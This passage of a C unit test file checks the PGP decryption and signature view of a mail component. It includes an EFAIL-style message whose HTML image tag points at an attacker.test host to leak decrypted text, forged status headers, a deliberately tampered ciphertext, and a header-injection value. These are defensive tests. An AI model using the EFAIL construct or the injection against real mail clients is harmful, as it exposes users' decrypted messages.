	char *body = body_of(view);
	assert_string_equal(body, plain_body);
	g_free(body);

	/* Determinism: again, and on a fresh worker. */
	crypto_view_status st2;
	GByteArray *again = render(msg, NULL, &st2);
	assert_int_equal(again->len, view->len);
	assert_memory_equal(again->data, view->data, view->len);
	g_byte_array_unref(again);
	crypto_view_status_clear(&st2);
	const char *error;
	crypto_worker *fresh = crypto_worker_new(&error);
	again = NULL;
	assert_int_equal(crypto_view_render(fresh, CRYPTO_DECRYPT_ROOT, U8(msg), strlen(msg), NULL,
					    &again, &st2), CRYPTO_VIEW_RENDERED);
	assert_int_equal(again->len, view->len);
	assert_memory_equal(again->data, view->data, view->len);
	crypto_worker_free(&fresh);
	g_byte_array_unref(again);
	crypto_view_status_clear(&st2);

	/* Decryption policy never: unchanged. */
	again = NULL;
	assert_int_equal(crypto_view_render(worker, CRYPTO_DECRYPT_NEVER, U8(msg), strlen(msg), NULL,
					    &again, &st2), CRYPTO_VIEW_UNCHANGED);
	assert_null(again);
	assert_true(st2.encrypted);
	assert_false(st2.decrypted);
	crypto_view_status_clear(&st2);

	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	g_free(msg);
	g_free(enc);
}

static void test_signed(void **state)
{
	(void)state;
	const char *const to[] = { alice_fpr, NULL };
	char *enc = outbound(plain_message, to, bob_fpr);
	crypto_view_status st;
	GByteArray *view = render(enc, NULL, &st);
	char *want = g_strdup_printf("good %s Bob <bob@example.test>", bob_fpr);
	assert_string_equal(st.signature, want);
	assert_header(view, "X-Sealpost-Signature", want);
	char *body = body_of(view);
	assert_string_equal(body, plain_body);
	g_free(body);
	g_free(want);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	g_free(enc);

	/* Bob signs, but the From says Mallory: never good. */
	char *mallory = replace(plain_message, "Bob <bob@", "Mallory <mallory@");
	enc = outbound(mallory, to, bob_fpr);
	view = render(enc, NULL, &st);
	assert_true(g_str_has_prefix(st.signature, "mismatch "));
	assert_non_null(strstr(st.signature, bob_fpr));
	char *sig = header_value(view, "X-Sealpost-Signature");
	assert_false(g_str_has_prefix(sig, "good"));
	g_free(sig);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	g_free(enc);
	g_free(mallory);
}

/* Signed by the signature inside the encryption (sign, then encrypt). */
static void test_signed_parts(void **state)
{
	(void)state;
	char *signed_msg = outbound(plain_message, NULL, bob_fpr);
	assert_non_null(strstr(signed_msg, "multipart/signed"));

	/* The multipart/signed is the whole decrypted content: good. */
	size_t len;
	char *cipher = encrypt_raw(signed_msg, strlen(signed_msg), NULL, true, &len);
	char *msg = pgp_mime("From: Bob <bob@example.test>\r\nSubject: ...\r\n", cipher, len, false);
	crypto_view_status st;
	GByteArray *view = render(msg, NULL, &st);
	char *want = g_strdup_printf("good %s Bob <bob@example.test>", bob_fpr);
	assert_string_equal(st.signature, want);
	assert_header(view, "Subject", "The real subject");
	g_free(want);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	g_free(msg);
	g_free(cipher);

	/* The same signed part wrapped next to added text: partial. */
	const char *body = strstr(signed_msg, "\r\n\r\n") + 4;
	const char *ct = strstr(signed_msg, "Content-Type: multipart/signed");
	size_t ct_len = (size_t)(strstr(ct, "\r\n\r\n") - ct) + 2;
	char *wrapped = g_strdup_printf(
		"Content-Type: multipart/mixed; boundary=\"w\"; protected-headers=\"v1\"\r\n"
		"From: Bob <bob@example.test>\r\n"
		"Subject: The real subject\r\n"
		"\r\n"
		"--w\r\n"
		"Content-Type: text/plain\r\n"
		"\r\n"
		"Added by someone else.\r\n"
		"--w\r\n"
		"%.*s\r\n"
		"%s"
		"\r\n--w--\r\n", (int)ct_len, ct, body);
	cipher = encrypt_raw(wrapped, strlen(wrapped), NULL, true, &len);
	msg = pgp_mime("From: Bob <bob@example.test>\r\nSubject: ...\r\n", cipher, len, false);
	view = render(msg, NULL, &st);
	want = g_strdup_printf("partial %s", bob_fpr);
	assert_string_equal(st.signature, want);
	assert_header(view, "X-Sealpost-Signature", want);
	g_free(want);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	g_free(msg);
	g_free(cipher);
	g_free(wrapped);
	g_free(signed_msg);
}

static void test_forged_status_fields(void **state)
{
	(void)state;
	const char *entity =
		"Content-Type: text/plain; protected-headers=\"v1\"; hp=\"cipher\"\r\n"
		"From: Bob <bob@example.test>\r\n"
		"Subject: inside\r\n"
		"X-Sealpost-Signature: good FORGED-INSIDE\r\n"
		"X-Sealpost-Decryption: ok FORGED-INSIDE\r\n"
		"\r\n"
		"text\r\n";
	size_t len;
	char *cipher = encrypt_raw(entity, strlen(entity), NULL, true, &len);
	char *msg = pgp_mime("From: Bob <bob@example.test>\r\n"
			     "X-Sealpost-Signature: good FORGED-OUTSIDE\r\n"
			     "X-Sealpost-From-Mismatch: FORGED-OUTSIDE\r\n"
			     "X-SEALPOST-DECRYPTION: ok FORGED-OUTSIDE\r\n"
			     "Subject: ...\r\n", cipher, len, false);
	crypto_view_status st;
	GByteArray *view = render(msg, NULL, &st);
	assert_false(has(view, "FORGED"));
	assert_header(view, "X-Sealpost-Signature", "none");
	assert_header(view, "X-Sealpost-Decryption", "ok");
	assert_int_equal(header_count(view, "X-Sealpost-From-Mismatch"), 0);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	g_free(msg);
	g_free(cipher);
}

static void test_inline(void **state)
{
	(void)state;
	char *in = g_build_filename(tmp_dir, "inline.txt", NULL);
	char *out = g_build_filename(tmp_dir, "inline.asc", NULL);
	assert_true(g_file_set_contents(in, "Inline secret CANARY-inline\nline 2\n", -1, NULL));
	run_gpg("-a", "-r", alice_fpr, "-u", bob_fpr, "-s", "-e", "-o", out, in, NULL);
	char *armor = read_file(out);
	char *body = crlf(armor);
	char *msg = g_strdup_printf("From: Bob <bob@example.test>\r\nSubject: inline\r\n"
				    "Content-Type: text/plain; charset=us-ascii\r\n\r\n%s", body);
	crypto_view_status st;
	GByteArray *view = render(msg, NULL, &st);
	assert_int_equal(st.kind, CRYPTO_VIEW_KIND_INLINE_PGP);
	assert_true(st.decrypted);
	assert_header(view, "Subject", "inline");
	assert_header(view, "X-Sealpost-Decryption", "ok");
	char *want = g_strdup_printf("good %s Bob <bob@example.test>", bob_fpr);
	assert_header(view, "X-Sealpost-Signature", want);
	assert_header(view, "Content-Type", "text/plain; charset=us-ascii");
	char *text = body_of(view);
	assert_string_equal(text, "Inline secret CANARY-inline\r\nline 2\r\n");
	g_free(text);
	g_free(want);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	g_free(msg);
	g_free(body);
	g_free(armor);
	g_free(out);
	g_free(in);
}

static void test_nested_not_decrypted(void **state)
{
	(void)state;
	const char *const to[] = { alice_fpr, NULL };
	char *enc = outbound(plain_message, to, NULL);
	const char *ct = strstr(enc, "Content-Type: multipart/encrypted");
	char *efail = g_strdup_printf(
		"From: Bob <bob@example.test>\r\n"
		"Subject: EFAIL\r\n"
		"MIME-Version: 1.0\r\n"
		"Content-Type: multipart/mixed; boundary=\"m\"\r\n"
		"\r\n"
		"--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.test/?\r\n"
		"--m\r\n%s\r\n"
		"--m\r\nContent-Type: text/html\r\n\r\n\">\r\n"
		"--m--\r\n", ct);
	GByteArray *view = NULL;
	crypto_view_status st;
	assert_int_equal(crypto_view_render(worker, CRYPTO_DECRYPT_ROOT, U8(efail), strlen(efail),
					    NULL, &view, &st), CRYPTO_VIEW_UNCHANGED);
	assert_null(view);
	assert_int_equal(st.kind, CRYPTO_VIEW_KIND_NESTED);
	assert_false(st.encrypted);
	assert_false(st.decrypted);
	assert_non_null(strstr(st.reason, "nested"));
	assert_null(st.signature);
	crypto_view_status_clear(&st);
	g_free(efail);
	g_free(enc);
}

static void assert_failure_view(const char *msg, crypto_view_failure want, const char *canary)
{
	crypto_view_status st;
	GByteArray *view = render(msg, NULL, &st);
	if (st.failure != want)
		fail_msg("failure %d (%s), want %d", st.failure, st.reason, want);
	assert_true(st.encrypted);
	assert_false(st.decrypted);
	assert_null(st.signature);
	assert_false(has(view, canary));
	char *want_dec = g_strdup_printf("failed (%s)", crypto_view_failure_text(want));
	assert_header(view, "X-Sealpost-Decryption", want_dec);
	assert_string_equal(st.reason, crypto_view_failure_text(want));
	assert_header(view, "X-Sealpost-Signature", "none");
	assert_header(view, "Subject", "...");
	assert_header(view, "Content-Type", "text/plain; charset=us-ascii");
	char *body = body_of(view);
	assert_non_null(strstr(body, crypto_view_failure_text(want)));
	g_free(body);
	g_free(want_dec);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
}

static void test_no_key(void **state)
{
	(void)state;
	const char *const to[] = { dave_fpr, NULL };
	char *msg = outbound(plain_message, to, NULL);
	delete_key(dave_fpr);
	crypto_view_status st;
	GByteArray *view = render(msg, NULL, &st);
	assert_int_equal(st.failure, CRYPTO_VIEW_FAIL_NO_KEY);
	assert_true(st.transient);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	assert_failure_view(msg, CRYPTO_VIEW_FAIL_NO_KEY, "CANARY");
	g_free(msg);
}

/* Made by gpg itself: --rfc2440 still writes the old Symmetrically
 * Encrypted Data packet, which has no MDC. */
static char *no_mdc_ciphertext(const char *cipher_algo)
{
	char *in = g_build_filename(tmp_dir, "nomdc.txt", NULL);
	char *out = g_build_filename(tmp_dir, "nomdc.asc", NULL);
	assert_true(g_file_set_contents(in, "No MDC CANARY-nomdc\n", -1, NULL));
	run_gpg("--rfc2440", "--cipher-algo", cipher_algo, "-a", "-r", alice_fpr, "-e", "-o", out,
		in, NULL);
	char *armor = read_file(out);
	g_free(out);
	g_free(in);
	return armor;
}

static void test_no_integrity(void **state)
{
	(void)state;
	/* A legacy cipher (gpg knows it as such) and a modern one. */
	const char *algos[] = { "CAST5", "AES256" };
	for (size_t i = 0; i < G_N_ELEMENTS(algos); i++) {
		char *armor = no_mdc_ciphertext(algos[i]);
		char *mime = pgp_mime("From: Bob <bob@example.test>\r\nSubject: ...\r\n", armor,
				      strlen(armor), false);
		assert_failure_view(mime, CRYPTO_VIEW_FAIL_NO_INTEGRITY, "CANARY");
		char *body = crlf(armor);
		char *inl = g_strdup_printf("From: Bob <bob@example.test>\r\nSubject: ...\r\n\r\n%s", body);
		assert_failure_view(inl, CRYPTO_VIEW_FAIL_NO_INTEGRITY, "CANARY");
		g_free(inl);
		g_free(body);
		g_free(mime);
		g_free(armor);
	}
}

/* PGP/MIME around uncompressed ciphertext of a text with canaries; when
 * tamper, one bit of the encrypted literal data is flipped (gpg writes that
 * plaintext out before it reaches the MDC at the end). g_free. */
static char *tampered_message(bool tamper)
{
	const char *entity = "Content-Type: text/plain\r\n\r\n"
		"Tampered CANARY-tamper CANARY-tamper CANARY-tamper\r\n";
	size_t len;
	char *cipher = encrypt_raw(entity, strlen(entity), NULL, false, &len);
	if (tamper)
		cipher[len - 30] ^= 0x01;
	char *msg = pgp_mime("From: Bob <bob@example.test>\r\nSubject: ...\r\n", cipher, len, true);
	g_free(cipher);
	return msg;
}

static void test_tampered(void **state)
{
	(void)state;
	char *msg = tampered_message(false);
	crypto_view_status st;
	GByteArray *view = render(msg, NULL, &st);
	assert_true(st.decrypted);
	assert_true(has(view, "CANARY-tamper"));
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	g_free(msg);
	msg = tampered_message(true);
	assert_failure_view(msg, CRYPTO_VIEW_FAIL_INTEGRITY, "CANARY");
	g_free(msg);
}

static char *gpg_conf_saved;

static int restore_gpg_conf(void **state)
{
	(void)state;
	char *path = g_build_filename(home, "gpg.conf", NULL);
	if (gpg_conf_saved != NULL)
		g_file_set_contents(path, gpg_conf_saved, -1, NULL);
	g_free(gpg_conf_saved);
	gpg_conf_saved = NULL;
	g_free(path);
	return 0;
}

/* The keyring's gpg.conf tells gpg to skip integrity checks: gpg then
 * reports a manipulated message as decrypted, and nothing in its answer
 * says otherwise. */
static void test_gpg_skipping_integrity(void **state)
{
	(void)state;
	char *tampered = tampered_message(true);
	char *intact = tampered_message(false);
	char *armor = no_mdc_ciphertext("AES256");
	char *no_mdc = pgp_mime("From: Bob <bob@example.test>\r\nSubject: ...\r\n", armor,
				strlen(armor), false);
	/* The shared worker has checked gpg before. */
	assert_failure_view(tampered, CRYPTO_VIEW_FAIL_INTEGRITY, "CANARY");

	char *path = g_build_filename(home, "gpg.conf", NULL);
	gpg_conf_saved = read_file(path);
	char *lax = g_strconcat(gpg_conf_saved, "ignore-mdc-error\n", NULL);
	assert_true(g_file_set_contents(path, lax, -1, NULL));

	/* A new worker checks gpg first and decrypts nothing. */
	const char *error;
	crypto_worker *fresh = crypto_worker_new(&error);
	const char *msgs[] = { tampered, intact, no_mdc };
	for (size_t i = 0; i < G_N_ELEMENTS(msgs); i++) {
		GByteArray *view = NULL;
		crypto_view_status st;
		assert_int_equal(crypto_view_render(fresh, CRYPTO_DECRYPT_ROOT, U8(msgs[i]),
						    strlen(msgs[i]), NULL, &view, &st),
				 CRYPTO_VIEW_TEMPFAIL);
		assert_null(view);
		assert_false(st.decrypted);
		assert_non_null(strstr(st.reason, "ignore-mdc-error"));
		crypto_view_status_clear(&st);
	}
	/* A worker that checked before still refuses ciphertext without an
	 * MDC: gpg names its mode. */
	assert_failure_view(no_mdc, CRYPTO_VIEW_FAIL_NO_INTEGRITY, "CANARY");

	/* gpg.conf put right: the same new worker goes on. */
	restore_gpg_conf(NULL);
	GByteArray *view = NULL;
	crypto_view_status st;
	assert_int_equal(crypto_view_render(fresh, CRYPTO_DECRYPT_ROOT, U8(tampered),
					    strlen(tampered), NULL, &view, &st),
			 CRYPTO_VIEW_RENDERED);
	assert_int_equal(st.failure, CRYPTO_VIEW_FAIL_INTEGRITY);
	assert_false(has(view, "CANARY"));
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	crypto_worker_free(&fresh);
	g_free(lax);
	g_free(path);
	g_free(no_mdc);
	g_free(armor);
	g_free(intact);
	g_free(tampered);
}

static void test_garbled_and_malformed(void **state)
{
	(void)state;
	char *msg = pgp_mime("From: Bob <bob@example.test>\r\nSubject: ...\r\n",
			     "hello, not OpenPGP\n", 19, false);
	assert_failure_view(msg, CRYPTO_VIEW_FAIL_GARBLED, "hello, not");
	g_free(msg);
	const char *one_part =
		"From: Bob <bob@example.test>\r\nSubject: ...\r\n"
		"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n"
		"--b\r\nContent-Type: application/octet-stream\r\n\r\nxx\r\n--b--\r\n";
	assert_failure_view(one_part, CRYPTO_VIEW_FAIL_STRUCTURE, "xx\r\n");
}

static void test_smime_unchanged(void **state)
{
	(void)state;
	const char *msg = "From: a@example.test\r\nContent-Type: application/pkcs7-mime;"
		" smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIB\r\n";
	GByteArray *view = NULL;
	crypto_view_status st;
	assert_int_equal(crypto_view_render(worker, CRYPTO_DECRYPT_ROOT, U8(msg), strlen(msg), NULL,
					    &view, &st), CRYPTO_VIEW_UNCHANGED);
	assert_null(view);
	assert_int_equal(st.kind, CRYPTO_VIEW_KIND_UNSUPPORTED);
	assert_non_null(strstr(st.reason, "S/MIME"));
	crypto_view_status_clear(&st);
}

static void test_pinned_signature(void **state)
{
	(void)state;
	char *carol_message = replace(plain_message, "Bob <bob@", "Carol <carol@");
	const char *const to[] = { alice_fpr, NULL };
	char *msg = outbound(carol_message, to, carol_fpr);

	crypto_view_status first;
	GByteArray *view = render(msg, NULL, &first);
	char *want = g_strdup_printf("good %s Carol <carol@example.test>", carol_fpr);
	assert_string_equal(first.signature, want);

	/* Carol's key goes away: verifying now says something else ... */
	delete_key(carol_fpr);
	crypto_view_status now;
	GByteArray *changed = render(msg, NULL, &now);
	assert_true(g_str_has_prefix(now.signature, "unknown-key "));
	assert_false(changed->len == view->len && memcmp(changed->data, view->data, view->len) == 0);
	/* ... but the pinned status gives the first view, byte for byte. */
	crypto_view_status pinned;
	GByteArray *same = render(msg, first.signature, &pinned);
	assert_string_equal(pinned.signature, first.signature);
	assert_int_equal(same->len, view->len);
	assert_memory_equal(same->data, view->data, view->len);
	g_byte_array_unref(same);
	crypto_view_status_clear(&pinned);

	/* Whatever was pinned is used verbatim. */
	same = render(msg, "good 0123 Somebody <x@example.test>", &pinned);
	assert_header(same, "X-Sealpost-Signature", "good 0123 Somebody <x@example.test>");
	assert_string_equal(pinned.signature, "good 0123 Somebody <x@example.test>");
	g_byte_array_unref(same);
	crypto_view_status_clear(&pinned);

	/* A pinned value cannot smuggle a header field in. */
	GByteArray *none = NULL;
	assert_int_equal(crypto_view_render(worker, CRYPTO_DECRYPT_ROOT, U8(msg), strlen(msg),
					    "good\r\nX-Evil: 1", &none, &pinned), CRYPTO_VIEW_INVALID);
	assert_null(none);
	crypto_view_status_clear(&pinned);

	g_free(want);
	g_byte_array_unref(changed);
	crypto_view_status_clear(&now);
	g_byte_array_unref(view);
	crypto_view_status_clear(&first);
	g_free(msg);
	g_free(carol_message);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_classify),
		cmocka_unit_test(test_build_protected_headers),
		cmocka_unit_test(test_build_gossip),
		cmocka_unit_test(test_build_lone_cr),
		cmocka_unit_test(test_build_inline_and_limits),
		cmocka_unit_test(test_pgp_mime_round_trip),
		cmocka_unit_test(test_signed),
		cmocka_unit_test(test_signed_parts),
		cmocka_unit_test(test_forged_status_fields),
		cmocka_unit_test(test_inline),
		cmocka_unit_test(test_nested_not_decrypted),
		cmocka_unit_test(test_no_key),
		cmocka_unit_test(test_no_integrity),
		cmocka_unit_test(test_tampered),
		cmocka_unit_test_teardown(test_gpg_skipping_integrity, restore_gpg_conf),
		cmocka_unit_test(test_garbled_and_malformed),
		cmocka_unit_test(test_smime_unchanged),
		cmocka_unit_test(test_pinned_signature),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
